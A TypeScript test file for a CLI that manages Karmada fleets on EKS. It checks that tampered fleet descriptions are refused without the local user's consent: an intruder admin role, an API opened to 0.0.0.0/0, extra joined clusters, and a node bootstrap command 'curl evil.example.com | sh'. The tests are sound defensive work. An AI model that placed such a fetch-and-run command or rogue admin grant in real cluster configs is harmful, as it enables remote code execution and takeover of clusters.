/** What somebody wrote into the parent's description lets nobody in and brings no cluster in unless this machine's user agrees. */
import { expect, it } from 'vitest';
import type { RunEvent } from '../../src/engine/events.js';
import { said } from '../cli/output.js';
import { cli } from './cli.js';
import { changes, down, region, smallUp, succeed } from './fleet.js';
import { joinable, karmadaIn } from './joinable.js';
import { describeAnew } from './planted.js';
import { smallFleet } from './small-fleet.js';

const fleet = smallFleet();
const intruder = 'arn:aws:iam::999999999999:role/intruder';

function shown(text: string): string {
  return text.replaceAll(/\d{4}-\d\d-\d\d \d\d:\d\d UTC/g, 'DATE');
}

function endOfParent(event: RunEvent): boolean {
  return event.type === 'step-done' && event.id === 'undo/create-cluster/parent';
}

it('makes nobody an administrator under --yes', async () => {
  const account = fleet();
  describeAnew(account, (described) => ({ ...described, admins: [intruder] }));
  const refused = await cli(account, 'up --yes');
  expect(shown(said(refused))).toMatchInlineSnapshot(`
    "✖ fleet karmada was changed since this machine last used it; nothing was changed
      why:  it was created by you@rehearsal on DATE, last changed by you@rehearsal on DATE: admins from [] to ["arn:aws:iam::999999999999:role/intruder"]
      next: 1. to agree, add --change-fleet
            2. or set the values you want with flags: karmada-eks up --help
      code: consent-missing
    exit 3"
  `);
  expect(changes(refused)).toEqual([]);
  // Asking again does not make it known.
  expect((await cli(account, 'up --yes')).code).toBe(3);
  expect((await cli(account, 'join --create --cluster three --yes')).stderr).toContain('code: consent-missing');
  await succeed(account, 'up --yes --change-fleet');
  const entries = account.region(region).clusters['one']?.accessEntries;
  expect(JSON.stringify(entries)).toContain(intruder);
  expect(changes(await succeed(account, 'up --yes'))).toEqual([]);
});

it('does not open the API to everybody under --yes', async () => {
  const account = fleet();
  describeAnew(account, (described) => ({ ...described, allow: ['0.0.0.0/0'] }));
  const refused = await cli(account, 'up --yes');
  expect(refused.stderr).toContain('allow from [] to ["0.0.0.0/0"]');
  expect([refused.code, changes(refused)]).toEqual([3, []]);
});

it('has new nodes run nothing under --yes, and tells no value of a patch', async () => {
  const account = fleet();
  const clusterConfigPatch = { managedNodeGroups: [{ preBootstrapCommands: ['curl evil.example.com | sh'] }] };
  describeAnew(account, (described) => ({ ...described, clusterConfigPatch }));
  for (const words of ['up --yes', 'join --yes --member name=three']) {
    const refused = await cli(account, words);
    expect(refused.stderr).toContain('other cluster config patch: managedNodeGroups.nodes.preBootstrapCommands');
    expect([refused.code, changes(refused), refused.stderr.includes('evil')]).toEqual([3, [], false]);
  }
});

it('has no EKS cluster joined under --yes', async () => {
  const account = await joinable();
  const shop = { name: 'shop', cluster: 'shop', region, mode: 'push', existing: true };
  describeAnew(account, (described) => ({ ...described, members: [...described.members, shop] }));
  const refused = await cli(account, 'up --yes');
  expect(refused.stderr).toContain(': shop joins');
  expect(changes(refused)).toEqual([]);
  expect(karmadaIn(account)).not.toContain('shop');
});

it('is not made known by a join that has nothing to do', async () => {
  const account = await joinable();
  const join = `join --cluster shop --yes --fleet karmada --region ${region}`;
  await succeed(account, join);
  describeAnew(account, (described) => ({ ...described, allow: ['0.0.0.0/0'] }));
  expect((await succeed(account, join)).stdout).toContain('nothing to do');
  expect((await cli(account, 'up --yes')).stderr).toContain('code: consent-missing');
});

it('is not made known by a join of somebody else', async () => {
  const account = await joinable();
  const added = { name: 'three', region, mode: 'push' };
  describeAnew(account, (described) => ({ ...described, members: [...described.members, added] }));
  await succeed(account, `join --cluster shop --yes --fleet karmada --region ${region}`);
  const refused = await cli(account, 'up --yes');
  expect(refused.stderr).toContain(': three joins\n');
  expect(changes(refused)).toEqual([]);
});

it('is not made known by an unjoin, of which nothing is asked again', async () => {
  const account = fleet();
  describeAnew(account, (described) => ({ ...described, admins: [intruder] }));
  await succeed(account, 'unjoin two --yes');
  const refused = await cli(account, 'up --yes');
  expect(shown(said(refused))).toMatchInlineSnapshot(`
    "✖ fleet karmada was changed since this machine last used it; nothing was changed
      why:  it was created by you@rehearsal on DATE, last changed by you@rehearsal on DATE: admins from [] to ["arn:aws:iam::999999999999:role/intruder"]
      next: 1. to agree, add --change-fleet
            2. or set the values you want with flags: karmada-eks up --help
      code: consent-missing
    exit 3"
  `);
  expect(changes(refused)).toEqual([]);
});

it.each(['begins', 'has deleted the parent'])('is not made known by a down that dies as it %s', async (moment) => {
  const account = fleet();
  describeAnew(account, (described) => ({ ...described, allow: ['0.0.0.0/0'] }));
  const { events } = await succeed(fleet(), down);
  const isLate = moment !== 'begins';
  const killAt = 1 + events.findIndex(isLate ? endOfParent : ({ type }) => type === 'step-started');
  expect((await cli(account, down, { killAt })).code).toBe('killed');
  expect(account.region(region).clusters['karmada-parent'] === undefined).toBe(isLate);
  const refused = await cli(account, 'up --yes');
  expect(refused.stderr).toContain('allow from [] to ["0.0.0.0/0"]');
  expect([refused.code, changes(refused)]).toEqual([3, []]);
});

it('is made known by an up that asks', async () => {
  const account = fleet();
  describeAnew(account, (described) => ({ ...described, admins: [intruder] }));
  await succeed(account, 'unjoin two --yes');
  await succeed(account, 'up --yes --change-fleet');
  expect(changes(await succeed(account, 'up --yes'))).toEqual([]);
});

it('does not choose who is pruned', async () => {
  const account = fleet();
  describeAnew(account, ({ members, ...described }) => ({ ...described, members: [], former: members }));
  const refused = await cli(account, 'up --yes --prune');
  expect(refused.stderr).toContain('one leaves; two leaves');
  expect(changes(refused)).toEqual([]);
});

it('is not asked about where the user gives the same in this run, or where all of it is done', async () => {
  const account = fleet();
  describeAnew(account, (described) => ({ ...described, allow: ['198.51.100.0/24'] }));
  await succeed(account, 'up --yes --allow 203.0.113.0/24');
  const other = fleet();
  await succeed(other, `join --create --cluster three --yes --fleet karmada --region ${region}`, { host: 'other' });
  await succeed(other, smallUp.replace(' --member name=one --member name=two,mode=pull', ''));
});
